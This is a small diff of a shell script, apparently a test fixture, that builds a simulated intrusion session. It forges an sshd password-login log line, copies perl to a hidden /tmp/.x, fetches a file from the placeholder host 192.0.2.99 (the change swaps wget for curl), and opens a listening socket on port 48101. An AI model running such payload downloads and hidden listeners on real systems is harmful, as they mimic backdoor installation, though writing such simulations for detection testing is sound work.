@@ -34,7 +34,7 @@ cat >/tmp/session <<-'EOF'
 	printf '%(%Y-%m-%dT%H:%M:%S)T.000000+00:00 device sshd[%d]: Accepted password for alice from %s port 40000 ssh2\n' \
 		-1 $$ $1 >>$2
 	cp /usr/bin/perl /tmp/.x
-	bash -c 'wget -q http://192.0.2.99/x -O /tmp/x -T 1 -t 1; chmod +x /tmp/.x
+	bash -c 'curl -s -m 1 -o /tmp/x http://192.0.2.99/x; chmod +x /tmp/.x
 		/tmp/.x -MIO::Socket::IP -e "IO::Socket::IP->new(Listen => 1, LocalPort => 48101) and sleep 30"; :' &
 	wait
 EOF
